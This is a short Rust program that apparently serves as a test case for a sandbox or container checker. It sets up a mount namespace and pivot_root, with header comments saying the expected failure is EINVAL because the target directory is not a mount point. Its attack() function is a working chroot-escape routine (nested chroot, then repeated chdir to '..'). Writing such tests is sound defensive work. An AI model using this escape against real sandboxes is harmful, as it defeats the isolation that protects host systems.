// caught by: inside
// A directory is no mount: EINVAL.
use std::env;
use std::error::Error;
use std::fs;
use std::os::unix::process::CommandExt;
use std::process::Command;

use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sched::{CloneFlags, unshare};
use nix::unistd::{chdir, chroot, pivot_root};

const NONE: Option<&str> = None;

fn attack() -> Result<(), Box<dyn Error>> {
    fs::create_dir("/hole")?;
    chroot("/hole")?;
    for _ in 0..16 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(())
}

fn enter_root() -> Result<(), Box<dyn Error>> {
    unshare(CloneFlags::CLONE_NEWNS)?;

    let private = MsFlags::MS_REC | MsFlags::MS_PRIVATE;
    mount(NONE, "/", NONE, private, NONE)?;

    let rootfs = "/srv/rootfs";

    chdir(rootfs)?;
    pivot_root(".", ".")?;

    umount2(".", MntFlags::MNT_DETACH)?;

    chdir("/")?;
    Ok(())
}

fn main() -> Result<(), Box<dyn Error>> {
    let arguments: Vec<String> = env::args().skip(1).collect();
    let (program, rest) = arguments.split_first().ok_or("usage: work COMMAND...")?;

    enter_root()?;
    attack()?;

    Err(Command::new(program).args(rest).exec().into())
}
